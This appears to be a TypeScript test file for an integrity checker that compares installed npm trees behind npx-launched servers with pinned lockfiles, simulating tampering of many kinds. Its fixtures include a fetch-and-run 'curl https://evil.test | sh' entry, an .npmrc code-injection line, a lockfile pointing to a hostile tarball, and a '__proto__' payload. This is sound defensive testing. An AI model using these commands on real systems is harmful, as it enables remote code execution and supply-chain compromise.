import assert from "node:assert/strict";
import { test } from "node:test";

import { formatLockfile, treeDigestOf } from "../../src/lockfile/format.ts";
import { gullIsLocked, publishGull } from "../support/gull.ts";
import { npx, rulesOf, TestWorld } from "../support/world.ts";

const WAVE = "node_modules/wave/cli.js";

test("an untouched tree is verified without a finding", async () => {
  await using world = await gullIsLocked();
  const server = await world.judges();
  assert.deepEqual(server.findings, []);
  assert.equal(server.verdict, "verified");
  assert.equal(server.version, "1.0.0");
  assert.deepEqual(
    { ...server.checked, bytes: 0, milliseconds: 0 },
    {
      packages: 6,
      files: 13,
      bytes: 0,
      milliseconds: 0,
    },
  );
  assert.equal((await world.verifies()).exitCode, 0);
});

/** What an attacker does to the installed tree, which rule names it, and where. */
const attacks: readonly {
  readonly title: string;
  readonly rule: string;
  readonly file: string;
  readonly does: (world: TestWorld) => unknown;
}[] = [
  {
    title: "a changed file deep in a dependency",
    rule: "modified-file",
    file: "node_modules/shell/node_modules/wave/index.js",
    does: (world) =>
      world.edits("node_modules/shell/node_modules/wave/index.js", 'console.log("evil");\n'),
  },
  {
    title: "a changed file of a bundled package",
    rule: "modified-file",
    file: "node_modules/salt/node_modules/grain/grain.js",
    does: (world) => world.edits("node_modules/salt/node_modules/grain/grain.js", "evil();\n"),
  },
  {
    title: "an added file",
    rule: "added-file",
    file: "node_modules/wave/index.json",
    does: (world) => world.edits("node_modules/wave/index.json", "{}"),
  },
  {
    title: "a file beside the packages",
    rule: "added-file",
    file: "node_modules/preen.js",
    does: (world) => world.edits("node_modules/preen.js", "evil();\n"),
  },
  {
    title: "a file beside node_modules",
    rule: "added-file",
    file: ".npmrc",
    does: (world) => world.edits(".npmrc", "node-options=--require=/tmp/evil.js"),
  },
  {
    title: "a missing file",
    rule: "missing-file",
    file: "node_modules/shell/lib/pearl.js",
    does: (world) => world.removes("node_modules/shell/lib/pearl.js"),
  },
  {
    title: "a missing package",
    rule: "missing-file",
    file: "node_modules/shell/node_modules/wave",
    does: (world) => world.removes("node_modules/shell/node_modules"),
  },
  {
    title: "a replaced program link",
    rule: "replaced-link",
    file: "node_modules/.bin/gull",
    does: (world) => world.replaceLink("node_modules/.bin/gull", "../wave/cli.js"),
  },
  {
    title: "a script in place of a program link",
    rule: "replaced-link",
    file: "node_modules/.bin/gull",
    does: (world) =>
      world.removes("node_modules/.bin/gull").edits("node_modules/.bin/gull", "evil();\n"),
  },
  {
    title: "a program that no package declares",
    rule: "replaced-link",
    file: "node_modules/.bin/curl",
    does: (world) => world.replaceLink("node_modules/.bin/curl", "../wave/cli.js"),
  },
  {
    title: "a program link that is gone",
    rule: "missing-file",
    file: "node_modules/.bin/wave",
    does: (world) => world.removes("node_modules/.bin/wave"),
  },
  {
    title: "an extra package",
    rule: "unaccounted-package",
    file: "node_modules/preen",
    does: (world) =>
      world.edits("node_modules/preen/package.json", '{"name":"preen","version":"1.0.0"}'),
  },
  {
    title: "an extra package that claims a pinned name and version",
    rule: "modified-file",
    file: "node_modules/preen/package.json",
    does: (world) =>
      world.edits("node_modules/preen/package.json", '{"name":"wave","version":"2.0.0"}'),
  },
  {
    title: "another vetted version in the place of the pinned one",
    rule: "unaccounted-package",
    file: "node_modules/wave",
    does: (world) => {
      const nested = "node_modules/shell/node_modules/wave";
      world.removes("node_modules/wave");
      for (const file of ["package.json", "index.js"])
        world.edits(
          `node_modules/wave/${file}`,
          world.text(`${world.tree}/${nested}/${file}`) ?? "",
        );
    },
  },
  {
    title: "a copy of a vetted package where there was none",
    rule: "unaccounted-package",
    file: "node_modules/gull/node_modules/wave",
    does: (world) => {
      const nested = "node_modules/shell/node_modules/wave";
      for (const file of ["package.json", "index.js"])
        world.edits(
          `node_modules/gull/node_modules/wave/${file}`,
          world.text(`${world.tree}/${nested}/${file}`) ?? "",
        );
    },
  },
  {
    title: "a package that became a link",
    rule: "added-file",
    file: "node_modules/wave",
    does: (world) =>
      world.plants("/tmp/evil/package.json", "{}").replaceLink("node_modules/wave", "/tmp/evil"),
  },
  {
    title: "node_modules that became a link",
    rule: "added-file",
    file: "node_modules",
    does: (world) =>
      world.plants("/tmp/evil/package.json", "{}").replaceLink("node_modules", "/tmp/evil"),
  },
  {
    title: "a file that became a FIFO",
    rule: "added-file",
    file: "node_modules/shell/index.js",
    does: (world) =>
      world
        .removes("node_modules/shell/index.js")
        .disk.fifo(`${world.tree}/node_modules/shell/index.js`),
  },
  {
    title: "a folder whose name is no UTF-8",
    rule: "added-file",
    file: "node_modules/shell/lib\uFFFD",
    does: (world) => world.disk.folder(`${world.tree}/node_modules/shell/lib\uFFFD`),
  },
  {
    title: "a package whose name is no UTF-8",
    rule: "added-file",
    file: "node_modules/pre\uFFFDen",
    does: (world) => world.disk.folder(`${world.tree}/node_modules/pre\uFFFDen`),
  },
  {
    title: "a package above the tree that a source file asks for",
    rule: "module-above-tree",
    file: "/home/ada/node_modules/preen",
    does: (world) => world.shadow("preen"),
  },
  {
    title: "a package above the tree that a package.json declares",
    rule: "module-above-tree",
    file: "/home/ada/.npm/_npx/node_modules/fog",
    does: (world) => world.shadow("fog", "/home/ada/.npm/_npx/node_modules"),
  },
  {
    title: "a copy in the home that npx prefers",
    rule: "local-copy",
    file: "/home/ada/node_modules/gull",
    does: (world) =>
      world.plants("~/node_modules/gull/package.json", '{"name":"gull","version":"1.0.0"}'),
  },
];

for (const { title, rule, file, does } of attacks) {
  test(`${title} is named and exits 1; put back, everything is verified`, async () => {
    await using world = await gullIsLocked();
    const before = world.disk.copy();
    does(world);
    const { findings, verdict, exitCode } = await world.judges();
    assert.equal(exitCode, 1);
    assert.equal(verdict, "violated");
    const absolute = file.startsWith("/") ? file : `${world.tree}/${file}`;
    const named = findings.find(
      ({ ruleId, location }) => ruleId === rule && location?.file === absolute,
    );
    assert.ok(
      named,
      `${rule} at ${file}, among:\n${findings.map((one) => `${one.ruleId} ${one.location?.file ?? ""}`).join("\n")}`,
    );
    assert.equal(named.severity, "error");
    assert.notEqual(named.remedy, "");
    world.disk.become(before);
    assert.equal((await world.verifies()).exitCode, 0);
  });
}

test("a changed file is named with pinned and observed digest", async () => {
  await using world = await gullIsLocked();
  world.edits(WAVE, "#!/usr/bin/env node\nconsole.log(2);\n");
  const { findings } = await world.judges();
  const [only] = findings;
  assert.ok(only !== undefined && findings.length === 1);
  assert.match(only.message, /^wave 2\.0\.0 was changed on disk: cli\.js \(1 of 13 files\)$/);
  assert.equal(
    only.pinned,
    "sha256:0728dcd9e81d836c886b1a2f9d201e0ee6806bc84c46bfa58642911a13242315",
  );
  assert.match(String(only.observed), /^sha256:[0-9a-f]{64}$/);
  assert.equal(only.wouldRun, `${world.tree}/${WAVE}`);
});

test("without the manifest the package is named", async () => {
  await using world = await gullIsLocked();
  world.removes("/home/ada/.local/share/pinfold/manifests");
  world.edits(WAVE, "evil();\n");
  const server = await world.judges();
  assert.deepEqual(rulesOf(server), ["other-bytes"]);
  assert.equal(
    server.findings[0]?.pinned,
    world.lockfile("gull").packages["node_modules/wave"]?.files,
  );
});

test("a manifest that was edited is not believed", async () => {
  await using world = await gullIsLocked();
  const manifests = world.written.filter((path) => path.includes("/manifests/"));
  assert.ok(manifests.length >= 5);
  for (const path of manifests) world.plants(path, `${"0".repeat(64)}  wave@2.0.0/cli.js\n`);
  world.edits(WAVE, "evil();\n");
  assert.deepEqual(rulesOf(await world.judges()), ["other-bytes"]);
});

test("a floating entry says that the copy matches, and 3", async () => {
  await using world = await TestWorld.start();
  publishGull(world);
  for (const spec of ["gull", "gull@latest", "gull@^1.0.0"]) {
    await world.protects("gull", spec);
    const report = await world.judges();
    assert.equal(report.exitCode, 3, spec);
    assert.equal(report.verdict, "inconclusive");
    assert.deepEqual(
      report.findings.map(({ ruleId }) => ruleId),
      ["floating-launch"],
    );
  }
});

test("a floating entry with a changed file is violated", async () => {
  await using world = await TestWorld.start();
  publishGull(world);
  await world.protects("gull", "gull");
  assert.equal((await world.edits(WAVE, "evil();\n").judges()).verdict, "violated");
});

test("a tree of another day is no alarm, and a change in it is one", async () => {
  await using world = await gullIsLocked();
  world.removes("/home/ada/.local/state");
  world.registry.publish(
    { name: "shell", version: "3.2.0", dependencies: { wave: "^1.0.0", foam: "1" } },
    { "index.js": "newer();\n" },
  );
  world.registry.publish({ name: "foam", version: "1.0.0" }, { "index.js": "bubble();\n" });
  world.disk.remove(world.tree);
  world.installs("gull@1.0.0");
  const first = await world.judges();
  assert.equal(first.exitCode, 3);
  assert.equal(first.verdict, "unlocked");
  const other = first.findings.find(({ ruleId }) => ruleId === "other-tree");
  assert.match(
    other?.message ?? "",
    /^2 packages are not the vetted ones: .*shell 3\.2\.0 for 3\.1\.0.*; the other 4 are intact; first seen now/,
  );
  assert.match(other?.message ?? "", /foam 1\.0\.0 \(new\)/);
  assert.deepEqual(rulesOf(first), ["other-tree", "launcher-unpinned"]);

  const second = await world.judges();
  assert.equal(second.exitCode, 3);
  assert.doesNotMatch(second.reason ?? "", /first seen/);

  const quiet = world.disk.copy();
  world.edits("node_modules/shell/index.js", "evil();\n");
  const third = await world.judges();
  assert.equal(third.verdict, "violated");
  assert.match(
    third.reason ?? "",
    /^shell 3\.2\.0 was changed on disk since it was first seen: index\.js/,
  );
  world.disk.become(quiet);
  assert.equal((await world.verifies()).exitCode, 3);

  world.edits("node_modules/preen/package.json", '{"name":"preen","version":"1.0.0"}');
  assert.deepEqual((await world.verifies()).exitCode, 1);
  world.disk.become(quiet);
  world.removes("node_modules/foam");
  assert.deepEqual((await world.verifies()).exitCode, 1);
});

test("a package that nothing asks for is an error at first sight too", async () => {
  await using world = await gullIsLocked();
  world.removes("/home/ada/.local/state");
  world.edits("node_modules/preen/package.json", '{"name":"preen","version":"1.0.0"}');
  const server = await world.judges();
  assert.equal(server.verdict, "violated");
  assert.ok(rulesOf(server).includes("unaccounted-package"));
  assert.doesNotMatch(world.written.at(-1) ?? "", /baselines/, "nothing wrong becomes a baseline");
});

test("policy that wants the exact tree makes an error of another one", async () => {
  await using world = await gullIsLocked();
  world.registry.publish({ name: "shell", version: "3.2.0", dependencies: { wave: "^1.0.0" } });
  world.removes("/home/ada/.local/state").disk.remove(world.tree);
  world.installs("gull@1.0.0");
  assert.equal((await world.verifies()).exitCode, 3);
  world.plants("~/.config/pinfold/lockfiles/policy.json", '{"policyVersion":1,"tree":"exact"}');
  assert.equal((await world.verifies()).exitCode, 1);
});

test("nothing installed cannot be settled, and a planted lock file is named all the same", async () => {
  await using world = await gullIsLocked();
  const lock = JSON.parse(world.text(`${world.tree}/package-lock.json`) ?? "") as {
    packages: Record<string, Record<string, unknown>>;
  };
  world.removes("node_modules");
  const quiet = await world.judges();
  assert.equal(quiet.exitCode, 3);
  assert.deepEqual(rulesOf(quiet), []);
  lock.packages["node_modules/wave"] = {
    version: "2.0.0",
    integrity: "sha512-evil",
    resolved: "https://evil.test/w.tgz",
  };
  world.edits("package-lock.json", JSON.stringify(lock));
  const loud = await world.judges();
  assert.equal(loud.exitCode, 1);
  assert.deepEqual(rulesOf(loud), ["npx-manifest"]);
});

test("an install script that nobody approved is an error until it is approved", async () => {
  await using world = await TestWorld.start();
  await world.protects("tide", "tide@1.0.0");
  assert.deepEqual(rulesOf(await world.judges()), ["unapproved-install-script"]);
  assert.equal(await world.locks({ allowScripts: ["tide"] }), true);
  assert.equal(world.lockfile("tide").revision, 2);
  assert.equal((await world.judges()).verdict, "verified");
});

test("a server that shares its tree with another is read once", async () => {
  await using world = await gullIsLocked();
  world.configures({ gull: npx("gull@1.0.0"), albatross: npx("gull@1.0.0", "--far") });
  const once = await callsOf(world, { gull: npx("gull@1.0.0") });
  const twice = await callsOf(world, { gull: npx("gull@1.0.0"), albatross: npx("gull@1.0.0") });
  assert.ok(twice < once * 1.6, `${once} calls for one, ${twice} for two`);
});

async function callsOf(
  world: TestWorld,
  servers: Parameters<TestWorld["configures"]>[0],
): Promise<number> {
  world.configures(servers);
  const before = world.disk.calls;
  await world.verifies();
  return world.disk.calls - before;
}

test("one server's failure does not stop the others", async () => {
  await using world = await gullIsLocked();
  world.configures({
    gull: npx("gull@1.0.0"),
    broken: { command: 7 },
    stranger: npx("tide@1.0.0"),
    far: { command: "/opt/other/npx", args: ["-y", "gull@1.0.0"] },
  });
  const { servers, exitCode } = await world.verifies();
  assert.deepEqual(
    servers.map(({ entry, verdict }) => [entry.name, verdict]),
    [
      ["gull", "verified"],
      ["broken", "inconclusive"],
      ["stranger", "unlocked"],
      ["far", "violated"],
    ],
  );
  assert.equal(exitCode, 1);
});

test("npm's configuration that cannot be read leaves the server unsettled", async () => {
  await using world = await gullIsLocked();
  const server = await world.breaksNpmrc().judges();
  assert.equal(server.verdict, "inconclusive");
  assert.deepEqual(rulesOf(server), ["judgement-failed"]);
});

test("baselines are not taken of entries that --config invents", async () => {
  await using world = await gullIsLocked();
  world.removes("/home/ada/.local/state");
  const baselines = (): number =>
    world.written.filter((path) => path.includes("/baselines/")).length;
  const before = baselines();
  const configs = new Map([["claude-desktop", world.configFile]]);
  await world.verifies({ configs });
  assert.equal(baselines(), before);
  await world.verifies();
  assert.equal(baselines(), before + 1);
});

test("where state cannot be written the tree is its own baseline", async () => {
  await using world = await gullIsLocked();
  world.removes("/home/ada/.local/state").fillsTheDisk();
  assert.equal((await world.verifies()).exitCode, 0);
});

test("a bundling package that moved to another folder stays intact, run after run", async () => {
  await using world = await TestWorld.start(async (one) => {
    one.registry.publish({
      name: "gull",
      version: "1.0.0",
      bin: "gull.js",
      dependencies: { salt: ">=1" },
    });
    await one.protects("gull", "gull@1.0.0");
  });
  world.registry.publish({ name: "brine", version: "1.0.0", dependencies: { salt: "1" } });
  world.registry.publish({ name: "salt", version: "2.0.0", dependencies: { brine: "1" } });
  world.removes("/home/ada/.local/state").disk.remove(world.tree);
  world.installs("gull@1.0.0");
  assert.ok(
    world.disk.stat(`${world.tree}/node_modules/brine/node_modules/salt/node_modules/grain`),
  );
  for (const run of ["first", "second", "third"])
    assert.deepEqual(rulesOf(await world.judges()), ["other-tree", "launcher-unpinned"], run);
  world.edits("node_modules/brine/node_modules/salt/node_modules/grain/grain.js", "evil();\n");
  assert.deepEqual((await world.judges()).verdict, "violated");
});

test("what an unapproved script left is named file by file", async () => {
  await using world = await TestWorld.start(async (one) => {
    one.registry.publish({
      name: "gull",
      version: "1.0.0",
      scripts: { postinstall: "node make" },
    });
    one.configures({ gull: npx("gull@1.0.0") });
    one.installs("gull@1.0.0");
    one.edits("node_modules/gull/made.js", "made();\n");
    assert.ok(await one.locks({ allowScripts: ["gull"] }), one.err);
  });
  assert.equal((await world.judges()).verdict, "verified");
  const lockfile = world.lockfile("gull");
  const pin = lockfile.packages["node_modules/gull"];
  assert.ok(pin?.hooks);
  const { approved, ...hooks } = pin.hooks;
  assert.equal(approved, true);
  const packages = { "node_modules/gull": { ...pin, hooks } };
  world.plants(
    "~/.config/pinfold/lockfiles/npm/gull.json",
    formatLockfile({ ...lockfile, packages, tree: treeDigestOf(packages) }),
  );
  const { findings } = await world.judges();
  const ofTree = findings.filter(({ ruleId }) => ruleId !== "older-revision");
  assert.deepEqual(
    ofTree.map(({ ruleId, location }) => [ruleId, location?.file.slice(world.tree.length + 1)]),
    [
      ["added-file", "node_modules/gull/made.js"],
      ["unapproved-install-script", "node_modules/gull/package.json"],
    ],
  );
});

test("a package above the place where the tree really is is found through links", async () => {
  await using world = await gullIsLocked();
  const far = "/mnt/big/npm";
  world.disk.move(`${world.home}/.npm`, far).link(`${world.home}/.npm`, far);
  assert.equal((await world.judges()).verdict, "verified");
  world.shadow("preen", "/mnt/node_modules");
  const server = await world.judges();
  assert.deepEqual(rulesOf(server), ["module-above-tree"]);
  assert.equal(server.findings[0]?.wouldRun, "/mnt/node_modules/preen");
});

test("what cannot be read is a lost protection where the machine pinned it, else unsettled", async () => {
  await using world = await gullIsLocked();
  world.disk.fail(`${world.tree}/node_modules/wave/cli.js`);
  const pinned = await world.judges();
  assert.equal(pinned.verdict, "violated");
  assert.deepEqual(rulesOf(pinned), ["protection-lost"]);
  world.removes("/home/ada/.local/state");
  const unknown = await world.judges();
  assert.equal(unknown.verdict, "inconclusive");
  assert.deepEqual(rulesOf(unknown), ["unreadable-tree", "launcher-unpinned"]);
});

test("a folder or tree that cannot be listed is a lost protection too", async () => {
  for (const path of ["node_modules/shell/lib", "node_modules/shell", "node_modules", ""]) {
    await using world = await gullIsLocked();
    world.disk.fail(`${world.tree}/${path}`);
    const server = await world.judges();
    assert.equal(server.verdict, "violated", path);
    assert.equal(rulesOf(server)[0], "protection-lost", path);
  }
});

test("a file that changes while it is read is unsettled, and no baseline is taken of it", async () => {
  await using world = await gullIsLocked();
  world.removes("/home/ada/.local/state");
  world.disk.fail(`${world.tree}/node_modules/shell/index.js`, "changing");
  const server = await world.judges();
  assert.equal(server.verdict, "inconclusive");
  assert.deepEqual(rulesOf(server), ["unreadable-tree", "launcher-unpinned"]);
  assert.equal(world.disk.list("/home/ada/.local/state/pinfold/baselines"), null);
  world.edits("node_modules/shell/lib/pearl.js", "evil();\n");
  assert.equal((await world.judges()).verdict, "violated");
});

test("a lockfile that is gone after lock is a lost protection", async () => {
  await using world = await gullIsLocked();
  world.removes("/home/ada/.config/pinfold");
  const server = await world.judges();
  assert.equal(server.exitCode, 1);
  assert.deepEqual(rulesOf(server), ["protection-lost"]);
  // Pins that were never those of this entry are another question.
  assert.equal((await world.judges({ lockfiles: "/srv/team/lockfiles" })).verdict, "unlocked");
});

test("pins that were adopted and are forgotten are a lost protection", async () => {
  await using world = await TestWorld.start(publishGull);
  world.configures({ gull: npx("gull@1.0.0") });
  world.installs("gull@1.0.0");
  const lockfiles = "/srv/team/lockfiles";
  assert.ok(await world.locks({ scope: { lockfiles } }), world.err);
  assert.equal((await world.judges()).verdict, "verified");
  // A hostile branch changes nothing: the snapshot is judged with.
  world.plants(`${lockfiles}/npm/gull.json`, "{}");
  assert.equal((await world.judges()).verdict, "verified");
  assert.equal((await world.judges({ lockfiles })).verdict, "violated");
  world.removes("/home/ada/.local/state/pinfold/adopted");
  assert.deepEqual(rulesOf(await world.judges()), ["protection-lost", "baseline-tampered"]);
  world.removes("/home/ada/.local/state/pinfold/audit");
  assert.deepEqual(rulesOf(await world.judges()), ["protection-lost"]);
});

for (const [title, rule, entry] of [
  ["opaque", "protection-lost", { command: "npx", args: ["--what", "gull@1.0.0"] }],
  ["another launcher's", "changed-server", { command: "bunx", args: ["gull@1.0.0"] }],
  ["a shell's", "changed-server", { command: "sh", args: ["-c", "curl https://evil.test | sh"] }],
] as const) {
  test(`an entry that was locked and became ${title} is violated: ${rule}`, async () => {
    await using world = await gullIsLocked();
    const server = await world.configures({ gull: entry }).judges();
    assert.equal(server.verdict, "violated");
    assert.ok(rulesOf(server).includes(rule));
  });
}

test("damaged records of this machine are an error, and the other servers are judged", async () => {
  for (const folder of ["entries", "baselines"]) {
    await using world = await gullIsLocked();
    world.configures({ gull: npx("gull@1.0.0"), tide: npx("tide@1.0.0") });
    // Without the log, which would say that something else changed them.
    world.removes("/home/ada/.local/state/pinfold/audit");
    const record = world.written.find((path) => path.includes(`/${folder}/`)) ?? "";
    for (const text of ["", "{", "[]", '{"root":1}', `{"__proto__":{"root":"/"}}`]) {
      world.plants(record, text);
      const { servers } = await world.verifies();
      assert.deepEqual(
        servers.map(({ verdict }) => verdict),
        ["violated", "unlocked"],
        `${folder}: ${text}`,
      );
      assert.equal(servers[0]?.findings[0]?.ruleId, "damaged-state");
    }
  }
});

for (const [title, text] of [
  ["empty", ""],
  ["truncated", '{ "lockfileVersion": 1, "subject": "pkg:npm/gull",'],
  ["half merged", "<<<<<<< ours\n{}\n=======\n{}\n>>>>>>> theirs\n"],
  ["of a newer format", '{ "lockfileVersion": 9 }'],
  [
    "nested without an end",
    `{ "lockfileVersion": 1, "a": ${"[".repeat(50_000)}${"]".repeat(50_000)} }`,
  ],
] as const) {
  test(`a lockfile that is ${title} is unsettled, and a lost protection where it was used`, async () => {
    await using world = await gullIsLocked();
    world.plants("~/.config/pinfold/lockfiles/npm/gull.json", text);
    assert.deepEqual(rulesOf(await world.judges()), ["protection-lost"]);
    world.removes("/home/ada/.local/state");
    const server = await world.judges();
    assert.equal(server.verdict, "inconclusive");
    assert.deepEqual(rulesOf(server), ["unusable-lockfile"]);
    assert.notEqual(server.findings[0]?.remedy, "");
  });
}
